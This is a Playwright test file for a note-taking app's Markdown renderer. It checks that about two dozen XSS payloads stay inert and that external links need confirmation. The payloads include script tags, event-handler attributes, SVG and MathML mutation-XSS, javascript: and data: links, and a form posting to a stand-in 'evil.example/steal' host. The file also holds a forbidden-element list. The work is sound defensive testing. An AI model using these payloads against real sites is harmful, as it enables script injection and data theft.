import { execFile } from 'node:child_process';
import path from 'node:path';
import { promisify } from 'node:util';
import type { Locator, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { seedNotes, type SeedNote } from './notes-seed';
import { NotesPage } from './pages/notes-page';

const ROOT = path.resolve(import.meta.dirname, '..');
const run = promisify(execFile);

/** Each payload tries to run `window.__pwned = 1` or to change the title, to load something, or to submit something. */
const HOSTILE_MARKDOWN: Record<string, string> = {
  'script tag': '<script>window.__pwned = 1; document.title = "pwned"</script>',
  'script in markdown block': 'Hello\n\n<script type="module">window.__pwned = 1</script>\n\nworld',
  'img onerror': '<img src="x" onerror="window.__pwned = 1; document.title = \'pwned\'">',
  'svg onload': '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 1"><circle r="5"/></svg>',
  'svg script': '<svg><script>window.__pwned = 1</script><a xlink:href="javascript:window.__pwned=1"><text y="20">svg link</text></a></svg>',
  'svg animate': '<svg><animate onbegin="window.__pwned = 1" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="window.__pwned=1"/></svg>',
  'math mxss': '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1"></style></mglyph></table></mtext></math>',
  'iframe javascript': '<iframe src="javascript:parent.__pwned = 1"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
  'frameset and object': '<object data="javascript:window.__pwned=1"></object><embed src="data:text/html,<script>parent.__pwned=1</script>">',
  'form': '<form action="https://evil.example/steal" method="post"><input name="secret" value="x"><button formaction="javascript:window.__pwned=1">Send</button></form>',
  'autofocus onfocus': '<input autofocus onfocus="window.__pwned = 1"><textarea autofocus onfocus="window.__pwned = 1"></textarea>',
  'details ontoggle': '<details open ontoggle="window.__pwned = 1"><summary>x</summary></details>',
  'media onerror': '<video><source onerror="window.__pwned = 1"></video><audio src="x" onerror="window.__pwned = 1"></audio>',
  'body and style': '<body onload="window.__pwned = 1"><style>* { background: url(https://evil.example/bg.png) }</style><div style="background:url(https://evil.example/x.png)">styled</div>',
  'meta refresh and base': '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  'remote image': '![tracking pixel](https://evil.example/pixel.png "pixel")',
  'data image': '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  'javascript link': '[click me](javascript:window.__pwned=1) and [again](JaVaScRiPt:window.__pwned=1) and [encoded](javascript&#58;window.__pwned=1)',
  'data link': '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'raw javascript anchor': '<a href="javascript:window.__pwned = 1">raw anchor</a> <a href="https://ok.example" onclick="window.__pwned = 1" onmouseover="window.__pwned = 1">handler anchor</a>',
  'title attribute breakout': '[title](https://ok.example "x\\" onmouseover=\\"window.__pwned=1")',
  'autolink': '<javascript:window.__pwned=1> and <https://www.mofa.gov.vn/>',
  'reference link': '[ref]\n\n[ref]: javascript:window.__pwned=1',
  'html entity smuggling': '&lt;img src=x onerror=window.__pwned=1&gt; <img src=x onerror&#61;"window.__pwned=1">',
};

const FORBIDDEN_ELEMENTS = 'script, iframe, frame, frameset, object, embed, form, input, textarea, select, svg, math, img, video, audio, source, picture, style, link, meta, base, details';

/** One note per payload, on Azerbaijan's 1992 record, named by its first line. */
function hostileNotes(bodies: Record<string, string>): SeedNote[] {
  return Object.entries(bodies).map(([name, payload], index) => ({
    id: `hostile-${String(index).padStart(4, '0')}-${name.replace(/[^a-z]+/g, '-')}`.slice(0, 60).replace(/-+$/, ''),
    country: 'AZ',
    recordId: 'az-relations-1992',
    body: `Payload ${index}: ${name}\n\n${payload}`,
    tags: ['hostile'],
  }));
}

/** What in `scope` could run, load or submit anything: forbidden elements, handler or loading attributes, non-web links. */
async function activeContent(scope: Locator): Promise<string[]> {
  return scope.evaluateAll((roots, forbidden) => {
    const found: string[] = [];
    for (const root of roots) {
      for (const element of root.querySelectorAll(forbidden)) found.push(`<${element.tagName.toLowerCase()}>`);
      for (const element of [root, ...root.querySelectorAll('*')]) {
        for (const attribute of element.attributes) {
          const name = attribute.name.toLowerCase();
          if (name.startsWith('on') || ['src', 'srcdoc', 'srcset', 'style', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data'].includes(name)) {
            found.push(`${element.tagName.toLowerCase()}[${name}]`);
          }
        }
      }
      for (const link of root.querySelectorAll('a')) {
        const href = link.getAttribute('href');
        // Web links, and the card's own link to the note's country page.
        if (href !== null && !/^https?:\/\//i.test(href) && !/^#\/country\/[A-Z]{2}$/.test(href)) found.push(`a[href=${href}]`);
      }
    }
    return found;
  }, FORBIDDEN_ELEMENTS);
}

async function nothingRan(page: Page, title: string): Promise<void> {
  // A handler such as onerror would fire when its element finishes loading or failing: wait for every image to
  // settle, then for two frames, instead of a fixed time.
  await page.waitForFunction(() => [...document.images].every((image) => image.complete));
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(await page.title()).toBe(title);
}

test('hostile Markdown in notes renders inert: nothing runs, loads, submits or links anywhere but the web', async ({ dataDir, relaunch }) => {
  await seedNotes(dataDir, hostileNotes(HOSTILE_MARKDOWN));
  const app = await relaunch();
  const outside: string[] = [];
  app.page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.hostname !== '127.0.0.1' && url.protocol !== 'blob:' && url.protocol !== 'data:') outside.push(request.url());
  });
  const notes = new NotesPage(app.page);
  await expect(app.page.getByRole('heading', { level: 1 })).toBeVisible();
  const title = await app.page.title();

  await notes.open();
  await expect(notes.allNotes()).toHaveCount(Object.keys(HOSTILE_MARKDOWN).length);
  for (const [index, name] of Object.keys(HOSTILE_MARKDOWN).entries()) {
    await expect(notes.note(`Payload ${index}: ${name}`)).toBeVisible();
  }
  // Hover and focus everything a handler might be waiting for.
  for (const link of await notes.allNotes().getByRole('link').all()) await link.hover();
  await nothingRan(app.page, title);
  expect(await activeContent(notes.allNotes())).toEqual([]);
  // The only buttons in a note are its own actions (a payload's buttons are gone).
  for (const note of await notes.allNotes().all()) {
    await expect(note.getByRole('button')).toHaveText(['Sửa', '☆ Ghim', 'Lịch sử', 'Xóa']);
  }
  // Raw HTML shows as the text it is.
  await expect(notes.note('Payload 0: script tag')).toContainText('<script>window.__pwned = 1;');
  expect(outside).toEqual([]);

  // On the country page too, where the notes sit beside the records.
  await notes.allNotes().first().getByRole('link', { name: 'Azerbaijan' }).click();
  await expect(notes.allNotes()).toHaveCount(Object.keys(HOSTILE_MARKDOWN).length);
  await nothingRan(app.page, title);
  expect(await activeContent(notes.allNotes())).toEqual([]);
  expect(outside).toEqual([]);
});

test('a payload typed into the editor stays inert in the preview and once saved', async ({ app, countryList, countryPage }) => {
  const notes = new NotesPage(app.page);
  await countryList.countryLink('Azerbaijan').click();
  await expect(countryPage.heading('Azerbaijan')).toBeVisible();
  const title = await app.page.title();
  const payload = 'Typed payload\n\n<img src=x onerror="window.__pwned=1"><svg onload="window.__pwned=1"></svg>\n\n[js](javascript:window.__pwned=1) ![x](https://evil.example/x.png)';
  const editor = await notes.writeNote(notes.countryNotes(), payload);
  await editor.getByRole('button', { name: 'Xem trước' }).click();
  const preview = editor.getByRole('region', { name: 'Xem trước ghi chú' });
  await expect(preview).toContainText('Typed payload');
  await nothingRan(app.page, title);
  expect(await activeContent(preview)).toEqual([]);
  await expect(notes.editorStatus(editor)).toHaveText('Đã lưu');
  await notes.finishEditing(editor);
  const note = notes.note('Typed payload', notes.countryNotes());
  await expect(note).toBeVisible();
  await nothingRan(app.page, title);
  expect(await activeContent(note)).toEqual([]);
});

test('a web link in a note opens in the browser only after the officer confirms', async ({ dataDir, relaunch }) => {
  await seedNotes(dataDir, hostileNotes({ 'ministry link': 'See [the ministry](https://www.mofa.gov.vn/) before the meeting.' }));
  const app = await relaunch();
  const notes = new NotesPage(app.page);
  await expect(app.page.getByRole('heading', { level: 1 })).toBeVisible();
  await notes.open();
  const link = notes.note('Payload 0: ministry link').getByRole('link', { name: 'the ministry' });
  const popups: string[] = [];
  app.page.context().on('page', (page) => popups.push(page.url()));

  await link.focus();
  await app.page.keyboard.press('Enter');
  const dialog = notes.linkDialog();
  await expect(dialog).toBeVisible();
  await expect(dialog).toContainText('https://www.mofa.gov.vn/');
  await expect(dialog.getByRole('button', { name: 'Hủy' })).toBeFocused();
  await app.page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(link).toBeFocused();
  await expect(app.page).toHaveURL(/#\/notes$/);
  expect(popups).toEqual([]);

  await link.click();
  const requested: string[] = [];
  app.page.context().on('request', (request) => requested.push(request.url()));
  const opened = app.page.context().waitForEvent('page');
  await dialog.getByRole('button', { name: 'Mở trong trình duyệt' }).click();
  await opened;
  // Offline here, so the page itself fails to load; what matters is where it went.
  await expect.poll(() => requested).toContain('https://www.mofa.gov.vn/');
  await expect(dialog).toBeHidden();
  await expect(app.page).toHaveURL(/#\/notes$/);
});

test('a note nested 2,000 levels deep shows on the notes screen and the country page, and the brief with it prints', async ({ dataDir, relaunch }) => {
  await seedNotes(dataDir, [
    { id: 'nested-0000-quotes', country: 'AZ', body: `Payload nested quotes\n\n${'>'.repeat(2000)}`, pinned: true },
    { id: 'nested-0001-bullets', country: 'AZ', body: `Payload nested bullets\n\n${'- '.repeat(2000)}x` },
    { id: 'nested-0002-plain', country: 'AZ', body: 'Ghi chú bình thường bên cạnh' },
  ]);
  const app = await relaunch();
  const notes = new NotesPage(app.page);
  await expect(app.page.getByRole('heading', { level: 1 })).toBeVisible();
  await notes.open();
  await expect(notes.allNotes()).toHaveCount(3);
  await expect(notes.note('Payload nested quotes')).toContainText('>>>');
  await expect(notes.note('Payload nested bullets')).toBeVisible();
  await expect(notes.note('Ghi chú bình thường bên cạnh')).toBeVisible();

  await notes.note('Ghi chú bình thường bên cạnh').getByRole('link', { name: 'Azerbaijan' }).click();
  await expect(notes.note('Payload nested quotes', notes.countryNotes())).toBeVisible();
  await expect(notes.note('Ghi chú bình thường bên cạnh', notes.countryNotes())).toBeVisible();
  await app.close();

  const pdf = path.join(dataDir, '..', `${path.basename(dataDir)}-nested.pdf`);
  const printed = await run(process.execPath, [path.join(ROOT, 'bin', 'country-desk.mjs'), 'brief', 'AZ', '--notes', 'all', '--out', pdf, '--data', dataDir], { timeout: 60_000 });
  expect(printed.stdout).toContain(pdf);
  const { stdout: text } = await run('pdftotext', [pdf, '-']);
  expect(text).toContain('Payload nested quotes');
  expect(text).toContain('Ghi chú bình thường bên cạnh');
});
